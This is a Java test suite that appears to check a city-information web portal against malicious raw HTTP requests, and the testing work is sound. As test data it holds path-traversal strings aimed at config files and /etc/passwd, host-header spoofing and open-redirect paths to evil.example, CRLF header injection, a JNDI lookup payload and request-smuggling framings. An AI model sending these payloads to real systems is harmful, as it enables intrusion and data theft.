package org.learningcities.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.learningcities.testing.PortalTest;
import org.learningcities.testing.RawVisitor;
import org.learningcities.testing.RawVisitor.RawAnswer;
import org.learningcities.testing.Visitor;
import org.springframework.beans.factory.annotation.Autowired;

/** What somebody sends who is no browser: ways out of the folders, other hosts, headers within headers, too much of anything. */
@PortalTest
class RawRequestsTest {

    private static final String EVIL = "evil.example";

    @Autowired
    Visitor visitor;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/assets/../application.yml",
                "/assets/css/../../application.yml",
                "/assets/%2e%2e/application.yml",
                "/assets/%2e%2e%2fapplication.yml",
                "/assets/..%2fapplication.yml",
                "/assets/..%5capplication.yml",
                "/assets/..\\application.yml",
                "/assets/%252e%252e/application.yml",
                "/assets/....//application.yml",
                "/assets/..;/application.yml",
                "/assets/css/portal.css/../../../application.yml",
                "/assets/%c0%ae%c0%ae/application.yml",
                "/assets//etc/passwd",
                "/assets/file:/etc/passwd",
                "/assets/classpath:application.yml",
                "/assets/%00/application.yml",
                "/assets/css/portal.css%00.yml",
                "/../../../../etc/passwd",
                "/cities/..%2f..%2fapplication.yml",
                "/embed/cities/..%2f..%2fapplication.yml",
                "/data/..%2fapplication.yml",
                "/data/..%2f..%2fdb%2fcontent%2fcities%2fcork.yaml",
                "/api/v1/cities/..%2f..%2fapplication.yml",
                "/statements/..%2f..%2f/application.yml",
                "/META-INF/MANIFEST.MF",
                "/WEB-INF/web.xml"
            })
    void leavesNoFolder(String path) throws IOException {
        RawAnswer answer = get(path, "Host: 127.0.0.1");
        assertThat(answer.status()).isIn(400, 404);
        assertThat(answer.body()).doesNotContain("portal:", "spring:", "root:", "Manifest-Version", "\tat ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "Host: evil.example:99999",
                "Host: 127.0.0.1\r\nX-Forwarded-Host: evil.example",
                "Host: 127.0.0.1\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Port: 666",
                "Host: 127.0.0.1\r\nX-Forwarded-Prefix: //evil.example",
                "Host: 127.0.0.1\r\nForwarded: host=evil.example;proto=https",
                "Host: 127.0.0.1\r\nX-Original-URL: //evil.example\r\nX-Rewrite-URL: //evil.example",
                "Host: 127.0.0.1\r\nOrigin: https://evil.example\r\nReferer: https://evil.example/"
            })
    void believesNoHostButItsOwn(String headers) throws IOException {
        for (String path : new String[] {
            "/cities/cork?" + headers.hashCode(), // an address that nobody has asked: it is rendered now
            "/cities/",
            "/en/cities",
            "/brief?item=city:cork&item=city:beijing&up=city:beijing",
            "/api/v1/cities",
            "/sitemap.xml",
            "/feed.atom",
            "/oembed?url=http://localhost:8080/cities/cork",
            "/nothing"
        }) {
            RawAnswer answer = get(path, headers);
            assertThat(answer.body()).as(path).doesNotContain(EVIL);
            assertThat(answer.headers().toString()).as(path).doesNotContain(EVIL);
            assertThat(answer.headers().getOrDefault("location", "/")).as(path).startsWith("/");
        }
        assertThat(visitor.get("/cities/cork?" + headers.hashCode()).text()).doesNotContain(EVIL);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example/",
                "///evil.example/",
                "/\\evil.example/",
                "/%5cevil.example/",
                "/%2fevil.example/",
                "/en//evil.example",
                "/en/%2fevil.example",
                "/en/\\evil.example",
                "/fr//evil.example/",
                "/fr/%2f%2fevil.example/",
                "/en/..//evil.example",
                "/.//evil.example/",
                "/en/https://evil.example/",
                "/brief?item=city:cork&item=city:beijing&up=city:beijing&from=//evil.example",
                "/cities/?next=//evil.example",
                "/oembed?url=//evil.example/cities/cork"
            })
    void leadsToNoOtherHost(String path) throws IOException {
        String location = get(path, "Host: 127.0.0.1").headers().getOrDefault("location", "/");
        assertThat(location).matches("/([^/\\\\].*)?");
        assertThat(java.net.URI.create("http://127.0.0.1/").resolve(location).getHost())
                .isEqualTo("127.0.0.1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/cities/%0d%0aSet-Cookie:%20a=b/",
                "/en/cities%0d%0aSet-Cookie:%20a=b",
                "/en/search?q=%0d%0aSet-Cookie:%20a=b",
                "/search/?q=%0d%0aSet-Cookie:%20a=b",
                "/search.csv?q=%0d%0aSet-Cookie:%20a=b",
                "/search.atom?q=%0d%0aSet-Cookie:%20a=b%22",
                "/brief.md?title=%0d%0aSet-Cookie:%20a=b",
                "/brief?title=%0d%0aSet-Cookie:%20a=b&item=city:cork&item=city:beijing&up=city:beijing",
                "/cities.csv?region=%E5%98%8D%E5%98%8ASet-Cookie:%20a=b",
                "/oembed?url=%0d%0aSet-Cookie:%20a=b",
                "/api/v1/cities?page=%0d%0aSet-Cookie:%20a=b"
            })
    void headersComeFromThePortalAlone(String path) throws IOException {
        RawAnswer answer = get(path, "Host: 127.0.0.1");
        assertThat(answer.headers()).doesNotContainKey("set-cookie");
        assertThat(answer.status()).isBetween(200, 499);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: a\r\nX-Request-Id: short",
                "Host: a\r\nX-Request-Id: has a space in it",
                "Host: a\r\nX-Request-Id: <script>alert(1)</script>",
                "Host: a\r\nX-Request-Id: ${jndi:ldap://evil.example}",
                "Host: a\r\nX-Request-Id: \u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9",
                "Host: a\r\nX-Request-Id: 0123456789012345678901234567890123456789012345678901234567890123456789"
            })
    void takesNoIdThatCouldHarm(String headers) throws IOException {
        assertThat(get("/cities", headers).headers().get("x-request-id")).matches("[0-9a-f]{16}");
    }

    @Test
    void takesTheIdOfTheProxy() throws IOException {
        String id = "7f3b2c1e-9a7d-4c1b-8a55-0c9d7a3c1b2e";
        assertThat(get("/cities", "Host: a\r\nX-Request-Id: " + id).headers()).containsEntry("x-request-id", id);
        assertThat(get("/cities", "Host: a").headers().get("x-request-id"))
                .as("of another request for the same page")
                .isNotEqualTo(id);
        assertThat(get("/cities/%zz", "Host: a\r\nX-Request-Id: " + id).status())
                .isEqualTo(400);
    }

    @Test
    void refusesTooMuchOfAnything() throws IOException {
        assertThat(get("/" + "a".repeat(100_000), "Host: a").status()).isIn(400, 414);
        assertThat(get("/cities", "Host: a\r\nX-Long: " + "a".repeat(100_000)).status())
                .isIn(400, 431);
        assertThat(get("/cities", "Host: a" + "\r\nX-Many: a".repeat(1_000)).status())
                .isIn(400, 431);
        assertThat(get("/cities?" + "a=b&".repeat(3_500), "Host: a").status()).isEqualTo(200);
        assertThat(get("/cities", "Host: a\r\nAccept: " + "text/html,".repeat(2_000))
                        .status())
                .isIn(200, 400);
        assertThat(get("/cities", "Host: a\r\nRange: bytes=" + "0-1,".repeat(2_000))
                        .status())
                .isIn(200, 206, 416);
    }

    @Test
    void readsNoRequestWithinARequest() throws IOException {
        String within = "GET /cities/cork HTTP/1.1\r\nHost: a\r\n\r\n";
        for (String framing : new String[] {
            "Content-Length: 0\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: xchunked",
            "Content-Length: 5\r\nContent-Length: 6",
            "Content-Length: +5"
        }) {
            try (RawVisitor raw = new RawVisitor(visitor.port())) {
                RawAnswer answer = raw.send(("GET /cities HTTP/1.1\r\nHost: a\r\n" + framing + "\r\n\r\n" + within)
                        .getBytes(StandardCharsets.ISO_8859_1));
                assertThat(answer.status()).as(framing).isIn(200, 400, 501);
                assertThat(answer.headers()).as(framing).containsEntry("connection", "close");
            }
        }
    }

    private RawAnswer get(String target, String headers) throws IOException {
        try (RawVisitor raw = new RawVisitor(visitor.port())) {
            return raw.send(
                    ("GET " + target + " HTTP/1.1\r\n" + headers + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        }
    }
}
